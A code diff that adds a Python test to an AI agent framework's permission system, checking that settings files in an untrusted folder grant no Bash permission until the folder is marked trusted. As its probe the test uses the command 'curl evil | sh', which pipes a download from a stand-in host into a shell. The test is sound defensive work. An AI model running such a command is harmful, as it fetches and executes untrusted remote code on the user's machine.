@@ -21,6 +21,7 @@ from swarm.agent.permissions.settings import (
     settings_digests,
     settings_rules,
 )
+from swarm.agent.trust import TRUST_VAR
 from swarm.agent.tools.context import AgentIdentity, ToolContext, ToolError
 from swarm.agent.tools.walking import glob_regex
 from swarm.core.protocol import TeamFile
@@ -109,6 +110,16 @@ def test_settings_files(tmp_path: Path) -> None:
     (tmp_path / ".swarm" / "settings.json").write_text("{broken")
     with pytest.raises(UsageError, match="settings.json"):
         settings_rules(tmp_path, {}, env=os.environ)
+
+
+def test_an_untrusted_folders_settings_files_grant_nothing(tmp_path: Path) -> None:
+    (tmp_path / ".claude").mkdir()
+    (tmp_path / ".claude" / "settings.json").write_text('{"permissions": {"allow": ["Bash"]}}')
+    nothing_trusted = {"CLAUDE_CONFIG_DIR": str(tmp_path / "fresh-config"), "HOME": "/nonexistent-home"}
+    found = settings_rules(tmp_path, settings_digests(tmp_path), env=nothing_trusted)
+    assert found.allow == () and decide(bash("curl evil | sh", tmp_path), "default", found).verdict == "ask"
+    granted = settings_rules(tmp_path, settings_digests(tmp_path), env={**nothing_trusted, TRUST_VAR: str(tmp_path)})
+    assert [r.text for r in granted.allow] == ["Bash"]
 
 
 def test_compound_command_allowed_part_by_part() -> None:
